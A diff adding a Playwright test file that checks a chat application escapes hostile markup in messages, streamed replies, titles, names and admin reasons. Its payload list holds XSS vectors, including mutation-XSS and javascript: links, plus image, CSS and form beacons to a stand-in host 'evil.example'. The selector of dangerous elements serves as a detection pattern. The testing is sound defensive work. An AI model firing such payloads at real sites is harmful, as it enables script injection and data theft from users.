@@ -1,0 +1,66 @@
+import type { Page } from '@playwright/test';
+import { randomUUID } from 'node:crypto';
+import type { Session } from '@switchboard/shared';
+import { ApiClient } from '../scripts/lib/api-client.mjs';
+import { converse, newcomer, type Person } from './support/people.js';
+import { expect, test } from './support/test.js';
+
+test.use({ responder: 'paced' });
+
+/** Each sets `window.hacked` if a browser is talked into running it, or asks another host for something. */
+const HOSTILE = [
+  '<img src=x onerror="window.hacked=1">',
+  '<svg onload="window.hacked=1"><animate onbegin="window.hacked=1" attributeName=x></svg>',
+  '<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>',
+  '<script>window.hacked=1</script>',
+  '[link](javascript:window.hacked=1) <a href="jav&#x09;ascript:window.hacked=1">x</a> [data](data:text/html,<script>1</script>)',
+  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hacked=1&gt;">',
+  '![pixel](http://evil.example/?q=secret) <style>@import url(http://evil.example/x.css);</style>',
+  '<form action="http://evil.example"><button formaction="javascript:window.hacked=1">x</button></form>',
+  '<details open ontoggle="window.hacked=1">x</details> <input autofocus onfocus="window.hacked=1">',
+];
+
+/** The witness of every page fails the test for a foreign request or a breach of the policy besides. */
+async function isUnharmed(page: Page): Promise<void> {
+  expect(await page.evaluate(() => (window as { hacked?: number }).hacked)).toBeUndefined();
+  const dangers = page.locator('main :is(script, iframe, object, embed, form[action^="http"], [href^="javascript:" i], [href^="data:" i], img[src^="http"])');
+  await expect(dangers).toHaveCount(0);
+}
+
+test('A44, A45, A47: what people and models write runs nothing and asks nobody, also while it streams', async ({ user, admin, pageOf }) => {
+  test.setTimeout(90_000);
+  const page = await pageOf(user);
+  for (const [at, text] of HOSTILE.entries()) {
+    await page.getByRole('textbox', { name: 'Message' }).fill(`letter by letter: ${text}`);
+    await page.getByRole('button', { name: 'Send' }).click();
+    await expect(page.locator(`[data-role="assistant"][data-seq="${2 * at + 2}"]`)).toBeVisible({ timeout: 20_000 });
+    await isUnharmed(page);
+  }
+  const board = await pageOf(admin, `/admin/sessions/${page.url().split('/c/')[1]}`);
+  await expect(board.locator('[data-role="assistant"]')).toHaveCount(HOSTILE.length);
+  await isUnharmed(board);
+});
+
+test('A46: names, titles and reasons are shown as the text that they are', async ({ server, admin, pageOf }) => {
+  const name = '<img src=x onerror="window.hacked=1"><b>Bold</b>';
+  const identity = { ...newcomer(), name };
+  const api = new ApiClient(server.url, identity);
+  await api.register();
+  const person: Person = { ...identity, api };
+  const title = `<svg onload="window.hacked=1">${randomUUID()}`;
+  const session: Session = await converse(person, 'hello');
+  await api.call('PATCH', `/sessions/${session.session_id}`, { title });
+  const list = await pageOf(admin, `/admin/sessions?q=${encodeURIComponent(title.slice(-20))}`);
+  const row = list.locator(`[data-session-id="${session.session_id}"]`);
+  await expect(row).toContainText(title);
+  await expect(row).toContainText(name);
+  await isUnharmed(list);
+  await admin.api.call('POST', `/admin/sessions/${session.session_id}/end`, { reason: HOSTILE[0] });
+  for (const page of [await pageOf(admin, `/admin/sessions/${session.session_id}`), await pageOf(person, `/c/${session.session_id}`)]) {
+    await expect(page.getByText(HOSTILE[0]!).first()).toBeVisible();
+    await isUnharmed(page);
+  }
+  const users = await pageOf(admin, `/admin/users?q=${encodeURIComponent(identity.email)}`);
+  await expect(users.getByText(name).first()).toBeVisible();
+  await isUnharmed(users);
+});
